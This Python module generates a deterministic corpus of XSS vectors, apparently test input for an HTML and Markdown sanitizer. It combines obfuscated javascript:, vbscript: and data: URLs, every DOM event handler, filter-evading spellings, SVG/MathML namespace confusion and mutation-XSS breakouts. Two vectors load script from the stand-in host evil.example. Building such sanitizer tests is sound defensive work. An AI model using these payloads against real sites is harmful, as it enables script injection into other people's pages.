"""The hostile-HTML corpus: XSS vectors generated from their categories, deterministically.

``vectors()`` yields ``(id, vector)`` pairs, the same ones in the same order on every run.
Ids are lowercase ASCII words joined by hyphens, so a post can carry its vector's id in
its own id and URL, and a failure names the vector. The categories follow the public
cheat sheets; the vectors themselves are made here, from small lists, by combination.
"""

from __future__ import annotations

from collections.abc import Iterator

PAYLOAD = "alert(1)"
# White space a browser ignores, or that a careless filter does not: the Unicode spaces.
UNICODE_SPACES = (
    0x00A0, 0x1680, *range(0x2000, 0x200B), 0x2028, 0x2029, 0x205F, 0x3000, 0xFEFF,
)  # fmt: skip
C0_CONTROLS = tuple(range(0x00, 0x20))
# How a character is written: raw, or as a numeric character reference (an HTML parser
# takes one without its semicolon too).
FORMS = ("raw", "dec", "hex", "dec-nosemi", "hex-nosemi")
# Where it goes in "javascript:": before, inside "java|script", before and after the colon.
POSITIONS = ("before", "inside", "precolon", "postcolon")
# Characters whose no-semicolon reference would swallow the next letter as a hex digit
# (&#x9a is one number): the forms are still generated, that is the point of them.


def write_char(code: int, form: str) -> str:
    """``code`` written in ``form`` (one of FORMS)."""
    if form == "raw":
        return chr(code)
    if form == "dec":
        return f"&#{code};"
    if form == "hex":
        return f"&#x{code:x};"
    if form == "dec-nosemi":
        return f"&#{code}"
    return f"&#x{code:x}"


def scheme_with(char: str, position: str, scheme: str = "javascript") -> str:
    """``scheme:alert(1)`` with ``char`` placed at ``position``."""
    if position == "before":
        return f"{char}{scheme}:{PAYLOAD}"
    if position == "inside":
        return f"{scheme[:4]}{char}{scheme[4:]}:{PAYLOAD}"
    if position == "precolon":
        return f"{scheme}{char}:{PAYLOAD}"
    return f"{scheme}:{char}{PAYLOAD}"


def _entities(text: str, hexadecimal: bool, semicolon: bool = True, width: int = 0) -> str:
    end = ";" if semicolon else ""
    if hexadecimal:
        return "".join(f"&#x{ord(c):0{width}x}{end}" for c in text)
    return "".join(f"&#{ord(c):0{width}d}{end}" for c in text)


# Hostile URL values for every URL attribute: (name, value).
SCHEMES = (
    ("plain", f"javascript:{PAYLOAD}"),
    ("upper", f"JAVASCRIPT:{PAYLOAD}"),
    ("mixed", f"JaVaScRiPt:{PAYLOAD}"),
    ("vbscript", "vbscript:msgbox(1)"),
    ("vbscript-mixed", "VbScRiPt:msgbox(1)"),
    ("data-html", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("data-html-plain", "data:text/html,<script>alert(1)</script>"),
    ("data-svg", "data:image/svg+xml,<svg onload=alert(1)>"),
    ("data-upper", "DATA:text/html,<script>alert(1)</script>"),
    ("colon-named", f"javascript&colon;{PAYLOAD}"),
    ("tab-named", f"java&Tab;script:{PAYLOAD}"),
    ("newline-named", f"java&NewLine;script:{PAYLOAD}"),
    ("dec-entities", _entities("javascript:", hexadecimal=False) + PAYLOAD),
    ("hex-entities", _entities("javascript:", hexadecimal=True) + PAYLOAD),
    ("padded-nosemi", _entities("javascript:", False, semicolon=False, width=7) + PAYLOAD),
    ("hex-padded-nosemi", _entities("javascript:", True, semicolon=False, width=6) + PAYLOAD),
    ("lead-c0", f"\x01javascript:{PAYLOAD}"),
    ("lead-c0-ref", f"&#x1;javascript:{PAYLOAD}"),
    ("lead-nbsp", f"\u00a0javascript:{PAYLOAD}"),
    ("lead-spaces", f"  \t javascript:{PAYLOAD}"),
    ("inner-newline-ref", f"jav&#x0A;ascript:{PAYLOAD}"),
    ("inner-tab-raw", f"jav\tascript:{PAYLOAD}"),
    ("trail-space-scheme", f"javascript\x20:{PAYLOAD}"),
    ("percent-colon", f"javascript%3A{PAYLOAD}"),
    ("feed-scheme", f"feed:javascript:{PAYLOAD}"),
    ("livescript", f"livescript:{PAYLOAD}"),
)

# Every attribute that holds a URL, in the element that uses it: (name, template).
URL_CONTEXTS = (
    ("a-href", '<a href="{u}">x</a>'),
    ("a-href-unquoted", "<a href={u}>x</a>"),
    ("a-href-single", "<a href='{u}'>x</a>"),
    ("img-src", '<img src="{u}" alt="x">'),
    ("img-srcset", '<img srcset="{u} 1x" src="https://ok.example/a.png" alt="x">'),
    ("area-href", '<map name="m"><area shape="rect" coords="0,0,9,9" href="{u}"></map>'),
    ("form-action", '<form action="{u}"><button>x</button></form>'),
    ("button-formaction", '<form><button formaction="{u}">x</button></form>'),
    ("input-formaction", '<form><input type="submit" formaction="{u}"></form>'),
    ("input-src", '<input type="image" src="{u}">'),
    ("iframe-src", '<iframe src="{u}"></iframe>'),
    ("frame-src", '<frameset><frame src="{u}"></frameset>'),
    ("object-data", '<object data="{u}"></object>'),
    ("embed-src", '<embed src="{u}">'),
    ("svg-a-xlink", '<svg><a xlink:href="{u}"><text x="0" y="9">x</text></a></svg>'),
    ("svg-a-href", '<svg><a href="{u}"><text x="0" y="9">x</text></a></svg>'),
    ("svg-image-href", '<svg><image href="{u}" width="9" height="9"/></svg>'),
    ("svg-use-href", '<svg><use href="{u}#x"/></svg>'),
    ("math-href", '<math href="{u}"><mi>x</mi></math>'),
    ("math-mi-href", '<math><mi href="{u}">x</mi></math>'),
    ("math-xlink", '<math><mtext xlink:href="{u}">x</mtext></math>'),
    ("video-poster", '<video poster="{u}"></video>'),
    ("video-src", '<video src="{u}"></video>'),
    ("audio-source", '<audio><source src="{u}"></audio>'),
    ("track-src", '<video><track src="{u}"></video>'),
    ("blockquote-cite", '<blockquote cite="{u}">x</blockquote>'),
    ("q-cite", '<q cite="{u}">x</q>'),
    ("del-cite", '<del cite="{u}">x</del>'),
    ("ins-cite", '<ins cite="{u}">x</ins>'),
    ("base-href", '<base href="{u}"><a href="x">x</a>'),
    ("link-href", '<link rel="stylesheet" href="{u}">'),
    ("link-import", '<link rel="import" href="{u}">'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url={u}">'),
    ("table-background", '<table background="{u}"><tr><td>x</td></tr></table>'),
    ("td-background", '<table><tr><td background="{u}">x</td></tr></table>'),
    ("body-background", '<body background="{u}">'),
    ("md-link", "[x]({u})"),
    ("md-image", "![x]({u})"),
    ("md-reference", "[x][r]\n\n[r]: {u}"),
)

# Event handler attributes: the DOM's on* names (window, element, media, animation, …).
EVENTS = """onabort onafterprint onanimationcancel onanimationend onanimationiteration
onanimationstart onauxclick onbeforecopy onbeforecut onbeforeinput onbeforeprint
onbeforetoggle onbeforeunload onbegin onblur oncancel oncanplay oncanplaythrough onchange
onclick onclose oncontextlost oncontextmenu oncontextrestored oncopy oncuechange oncut
ondblclick ondrag ondragend ondragenter ondragleave ondragover ondragstart ondrop
ondurationchange onemptied onend onended onerror onfocus onfocusin onfocusout
onformdata onfullscreenchange onhashchange oninput oninvalid onkeydown onkeypress onkeyup
onload onloadeddata onloadedmetadata onloadstart onmessage onmousedown onmouseenter
onmouseleave onmousemove onmouseout onmouseover onmouseup onmousewheel onoffline ononline
onpagehide onpageshow onpaste onpause onplay onplaying onpointercancel onpointerdown
onpointerenter onpointerleave onpointermove onpointerout onpointerover onpointerup
onpopstate onprogress onratechange onrepeat onreset onresize onscroll onscrollend
onsearch onseeked onseeking onselect onselectionchange onselectstart onshow onstalled
onstorage onsubmit onsuspend ontimeupdate ontoggle ontouchcancel ontouchend ontouchmove
ontouchstart ontransitioncancel ontransitionend ontransitionrun ontransitionstart
onunload onvolumechange onwaiting onwebkitanimationend onwheel""".split()

# Elements each handler is put on: some always, one more in turn per handler.
HANDLER_HOSTS = (
    ("img", '<img src="x" alt="x" {on}="alert(1)">'),
    ("a", '<a href="https://ok.example/" {on}="alert(1)">x</a>'),
    ("svg", "<svg {on}=alert(1)><rect width=9 height=9 /></svg>"),
)
HANDLER_ROTATION = (
    ("div", "<div {on}=alert(1)>x</div>"),
    ("body", "<body {on}=alert(1)>"),
    ("input", "<input autofocus {on}=alert(1)>"),
    ("details", "<details open {on}=alert(1)><summary>x</summary></details>"),
    ("video", "<video src=x {on}=alert(1)></video>"),
    ("math", "<math {on}=alert(1)><mi>x</mi></math>"),
    ("p-upper", "<P {ON}=alert(1)>x</P>"),
    ("select", "<select autofocus {on}=alert(1)><option>x</option></select>"),
    ("textarea", "<textarea autofocus {on}=alert(1)>x</textarea>"),
    ("marquee", "<marquee {on}=alert(1)>x</marquee>"),
    ("unknown-tag", "<x-custom {on}=alert(1)>x</x-custom>"),
    ("iframe", "<iframe {on}=alert(1)></iframe>"),
)
# Ways to hide a handler from a filter that expects one space before each attribute.
HANDLER_SPELLINGS = (
    ("slash", "<img src=x/onerror=alert(1)>"),
    ("slash-quoted", '<img src="x"/onerror="alert(1)">'),
    ("newline", "<img src=x\nonerror=alert(1)>"),
    ("tab", "<img\tsrc=x\tonerror=alert(1)>"),
    ("formfeed", "<img\x0csrc=x\x0conerror=alert(1)>"),
    ("no-space-after-quote", '<img src="x"onerror="alert(1)">'),
    ("backtick", "<img src=x onerror=`alert(1)`>"),
    ("entity-value", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
    ("duplicate-attribute", '<img src="x" alt="a" alt="b" onerror="alert(1)">'),
    ("mixed-case", "<iMg SrC=x oNeRrOr=alert(1)>"),
    ("nul-in-name", "<img src=x on\x00error=alert(1)>"),
    ("unclosed", "<img src=x onerror=alert(1)"),
    ("in-unknown-attr", '<img src=x title="a" onerror="alert(1)" x="">'),
)

# One element of SVG or MathML inside another namespace, or the other way round.
NAMESPACE_CONFUSION = (
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-script-href", '<svg><script href="data:,alert(1)"></script></svg>'),
    ("svg-script-xlink", '<svg><script xlink:href="data:,alert(1)"></script></svg>'),
    (
        "svg-foreignobject-script",
        '<svg><foreignObject><script>alert(1)</script></foreignObject></svg>',
    ),
    (
        "svg-foreignobject-img",
        '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
    ),
    ("svg-desc-img", "<svg><desc><img src=x onerror=alert(1)></desc></svg>"),
    ("svg-title-img", "<svg><title><img src=x onerror=alert(1)></title></svg>"),
    ("svg-style-img", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    (
        "svg-style-cdata",
        '<svg><style><![CDATA[</style><img src=x onerror=alert(1)>]]></style></svg>',
    ),
    (
        "svg-animate-href",
        '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y='
        '"9">x</text></a></svg>',
    ),
    (
        "svg-set-href",
        '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y="9">x</t'
        'ext></a></svg>',
    ),
    ("svg-animate-onbegin", '<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>'),
    ("svg-handler-upper", "<SVG ONLOAD=alert(1)>"),
    ("svg-iframe", "<svg><iframe src=javascript:alert(1)></iframe></svg>"),
    ("svg-p-breakout", "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>"),
    ("svg-in-math", "<math><mtext><svg><script>alert(1)</script></svg></mtext></math>"),
    ("math-mtext-script", "<math><mtext><script>alert(1)</script></mtext></math>"),
    ("math-mi-img", "<math><mi><img src=x onerror=alert(1)></mi></math>"),
    (
        "math-annotation-xml",
        '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></ann'
        'otation-xml></math>',
    ),
    (
        "math-annotation-xml-svg",
        '<math><annotation-xml encoding="image/svg+xml"><svg onload=alert(1)></svg></'
        'annotation-xml></math>',
    ),
    (
        "math-maction",
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</m'
        'action></math>',
    ),
    ("math-style", "<math><style><img src=x onerror=alert(1)></style></math>"),
    ("math-malignmark", "<math><mtext><table><mglyph><malignmark><img src=x onerror=alert(1)>"),
    (
        "math-semantics-script",
        '<math><semantics><mi>x</mi><annotation encoding="text/html"><script>alert(1)'
        '</script></annotation></semantics></math>',
    ),
    (
        "math-xmlns-html",
        '<math xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></math>',
    ),
    (
        "xhtml-ns-in-svg",
        '<svg><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script></s'
        'vg>',
    ),
    (
        "svg-xmlns-override",
        '<svg xmlns="http://www.w3.org/1999/xhtml"><img src=x onerror=alert(1)></svg>',
    ),
    (
        "svg-use-data",
        '<svg><use href="data:image/svg+xml,&lt;svg id=\'x\' xmlns=\'http://www.w3.or'
        'g/2000/svg\'&gt;&lt;image href=\'1\' onerror=\'alert(1)\'/&gt;&lt;/svg&gt;#x"'
        '/></svg>',
    ),
    ("svg-handler-in-text", "<svg><text onclick=alert(1) y=9>x</text></svg>"),
    (
        "svg-a-javascript-nested",
        '<svg><g><a xlink:href="javascript:alert(1)"><rect width="9" height="9"/></a>'
        '</g></svg>',
    ),
)  # fmt: skip

# Markup that is harmless as parsed but becomes something else once serialized and
# parsed again (mutation XSS).
MUTATIONS = (
    ("noscript-title", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    (
        "noscript-style",
        '<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>',
    ),
    ("style-breakout", "<style></style><img src=x onerror=alert(1)>"),
    (
        "style-attr-breakout",
        '<p><style><a title="</style><img src=x onerror=alert(1)>"></style></p>',
    ),
    ("title-breakout", "<title><img src=x onerror=alert(1)></title>"),
    ("title-attr", '<title><a title="</title><img src=x onerror=alert(1)>"></title>'),
    ("textarea-breakout", "<textarea><img src=x onerror=alert(1)></textarea>"),
    ("textarea-attr", '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>'),
    ("xmp-breakout", '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>'),
    ("iframe-text", '<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>'),
    ("noembed", '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>'),
    ("noframes", '<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>'),
    ("plaintext", "<plaintext><img src=x onerror=alert(1)>"),
    ("template-script", "<template><script>alert(1)</script></template>"),
    ("template-img", "<template><img src=x onerror=alert(1)></template>"),
    ("template-in-table", "<table><template><img src=x onerror=alert(1)></template></table>"),
    ("math-mtext-mglyph-style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    (
        "math-mtext-form",
        '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ale'
        'rt(1)>',
    ),
    ("math-mi-table", "<math><mi><table><mi><style><img src=x onerror=alert(1)></style>"),
    (
        "svg-foreignobject-breakout",
        '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    ),
    (
        "svg-foreignobject-title",
        '<svg><foreignObject><p title="</foreignObject><img src=x onerror=alert(1)>">'
        '</p></foreignObject></svg>',
    ),
    ("comment-nested", "<!-- <!-- --><img src=x onerror=alert(1)> -->"),
    ("comment-bang", "<!--!><img src=x onerror=alert(1)>-->"),
    ("comment-short", "<!--><img src=x onerror=alert(1)>-->"),
    ("comment-dashes", "<!---><img src=x onerror=alert(1)>-->"),
    ("comment-in-attr", '<a title="<!--"><img src=x onerror=alert(1)>--></a>'),
    ("comment-cdata", "<![CDATA[><img src=x onerror=alert(1)>]]>"),
    ("bogus-comment", "<?xml ><img src=x onerror=alert(1)>?>"),
    ("bogus-end-tag", "</x onerror=alert(1)><img src=x onerror=alert(1)>"),
    ("p-close-in-attr", '<p title="</p><img src=x onerror=alert(1)>">x</p>'),
    ("p-close-in-attr-single", "<p title='</p><script>alert(1)</script>'>x</p>"),
    ("a-close-in-attr", '<a href="https://ok.example/" title="</a><svg onload=alert(1)>">x</a>'),
    ("backtick-attr", "<img src=`x`onerror=alert(1)>"),
    ("select-breakout", "<select><style></select><img src=x onerror=alert(1)></style></select>"),
    ("table-breakout", "<table><tr><td><style></td><img src=x onerror=alert(1)></style>"),
    ("form-nested", "<form><form><button formaction=javascript:alert(1)>x</button></form></form>"),
    ("script-nested", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-double-angle", "<<script>script>alert(1)//<</script>/script>"),
    ("script-spaced-end", "<script>alert(1)</script\t>"),
    ("script-unclosed", "<script>alert(1)"),
    ("script-src-slash", "<script/src=//evil.example/x.js></script>"),
    ("style-element", "<style>*{background:url(javascript:alert(1))}</style>"),
    ("style-import", "<style>@import 'javascript:alert(1)';</style>"),
    ("style-attribute", '<div style="background:url(javascript:alert(1))">x</div>'),
    ("style-expression", '<div style="width:expression(alert(1))">x</div>'),
    ("style-binding", '<div style="-moz-binding:url(//evil.example/x.xml#x)">x</div>'),
    ("style-escaped", '<div style="background:url(j\\61vascript:alert(1))">x</div>'),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    ("object-param", '<object><param name="movie" value="javascript:alert(1)"></object>'),
    ("applet", "<applet code=x><param name=x value=javascript:alert(1)></applet>"),
    ("isindex", "<isindex type=image src=1 onerror=alert(1)>"),
    ("portal", "<portal src=javascript:alert(1)></portal>"),
    (
        "dialog-open",
        '<dialog open onclose=alert(1)><form method=dialog><button>x</button></form><'
        '/dialog>',
    ),
    (
        "popover",
        '<button popovertarget=x>x</button><div id=x popover onbeforetoggle=alert(1)>'
        'x</div>',
    ),
    ("autofocus-contenteditable", "<div contenteditable autofocus onfocus=alert(1)>x</div>"),
    ("eos-unknown", "<eos><script>alert(1)</script>"),
    ("markdown-html-block", "<div>\n\n<script>alert(1)</script>\n\n</div>"),
    ("markdown-inline-html", "text <span onmouseover=alert(1)>x</span> text"),
    ("markdown-code-span", "`<script>alert(1)</script>` and <script>alert(1)</script>"),
    ("markdown-title-attr", '[x](https://ok.example/ "\\" onmouseover=\\"alert(1)")'),
    ("markdown-autolink", "<javascript:alert(1)>"),
    ("markdown-autolink-data", "<data:text/html,<script>alert(1)</script>>"),
)  # fmt: skip

# gazette marks each formula in rendered HTML with U+E000 <number> U+E001 until its MathML
# replaces it: input that writes such a marker must not pick another formula's MathML,
# and none may reach an output.
PLACEHOLDERS = (
    ("entity-zero", "&#xe000;0&#xe001;"),
    ("entity-zero-decimal", "&#57344;0&#57345;"),
    ("entity-seven", "&#xe000;7&#xe001;"),
    ("entity-big", "&#xe000;99999999999999999999&#xe001;"),
    ("raw-zero", "\ue0000\ue001"),
    ("raw-seven", "\ue0007\ue001"),
    ("entity-zero-with-formula", "$x$ and &#xe000;0&#xe001; and $y$"),
    ("entity-one-with-formula", "$x$ then &#xe000;1&#xe001;"),
    ("raw-zero-with-formula", "$x$ and \ue0000\ue001"),
    ("entity-in-attribute", '<a href="https://ok.example/" title="&#xe000;0&#xe001;">x</a> $x$'),
    ("entity-in-href", '<a href="&#xe000;0&#xe001;">x</a> $x$'),
    ("raw-in-attribute", '<a href="https://ok.example/" title="\ue0000\ue001">x</a> $x$'),
    ("entity-in-alt", '<img src="https://ok.example/a.png" alt="&#xe000;0&#xe001;"> $x$'),
    (
        "tex-color-breakout",
        "$\\color{&#xe000;0&#xe001;\"}x\\text{' onmouseover=alert(1) x='}$",
    ),
    (
        "tex-color-raw-breakout",
        "$\\color{\ue0000\ue001\"}x\\text{' onmouseover=alert(1) x='}$",
    ),
    ("tex-text-entity", "$\\text{&#xe000;0&#xe001;}$"),
    ("tex-text-raw", "$\\text{\ue0000\ue001}$"),
    ("tex-href-placeholder", "$\\href{&#xe000;0&#xe001;}{x}$"),
    ("tex-two-formulas", "$a$ $\\text{&#xe000;0&#xe001;}$"),
    ("tex-display", "$$\\text{&#xe000;0&#xe001;\" onmouseover=\"alert(1)}$$"),
    ("tex-script", "$\\text{<script>alert(1)</script>}$"),
    ("tex-img", "$\\text{<img src=x onerror=alert(1)>}$"),
    ("tex-href-javascript", "$\\href{javascript:alert(1)}{x}$"),
    ("tex-mathcolor-quote", '$\\color{red" onmouseover="alert(1)}x$'),
    ("tex-style-quote", "$\\style{color:red\" onmouseover=\"alert(1)}{x}$"),
    ("math-element-placeholder", "<math><mi>&#xe000;0&#xe001;</mi></math> $x$"),
    ("code-placeholder", "`&#xe000;0&#xe001;` $x$"),
    ("nested-markers", "&#xe000;&#xe000;0&#xe001;&#xe001; $x$"),
    ("half-open", "&#xe000;0 $x$"),
    ("half-close", "0&#xe001; $x$"),
    ("fullwidth-digit", "&#xe000;\uff10&#xe001; $x$"),
    ("arabic-digit", "&#xe000;\u0660&#xe001; $x$"),
)


def scheme_matrix() -> Iterator[tuple[str, str]]:
    """Each Unicode space and C0 control, in each form, at each position of javascript:."""
    for code in (*UNICODE_SPACES, *C0_CONTROLS):
        for form in FORMS:
            for position in POSITIONS:
                url = scheme_with(write_char(code, form), position)
                yield f"href-u{code:04x}-{form}-{position}", f'<a href="{url}">x</a>'


def url_attributes() -> Iterator[tuple[str, str]]:
    """Every URL attribute with every hostile scheme spelling."""
    for context, template in URL_CONTEXTS:
        for name, url in SCHEMES:
            yield f"url-{context}-{name}", template.replace("{u}", url)


def handlers() -> Iterator[tuple[str, str]]:
    """Every event handler on several elements, and handlers spelled to slip past filters."""
    for number, event in enumerate(EVENTS):
        hosts = (*HANDLER_HOSTS, HANDLER_ROTATION[number % len(HANDLER_ROTATION)])
        for host, template in hosts:
            vector = template.replace("{on}", event).replace("{ON}", event.upper())
            yield f"on-{event[2:]}-{host}", vector
    for name, vector in HANDLER_SPELLINGS:
        yield f"on-spelling-{name}", vector


def vectors() -> Iterator[tuple[str, str]]:
    """The whole corpus, in a fixed order: (id, vector)."""
    yield from scheme_matrix()
    yield from url_attributes()
    yield from handlers()
    for prefix, group in (("ns", NAMESPACE_CONFUSION), ("mxss", MUTATIONS),
                          ("pua", PLACEHOLDERS)):  # fmt: skip
        for name, vector in group:
            yield f"{prefix}-{name}", vector
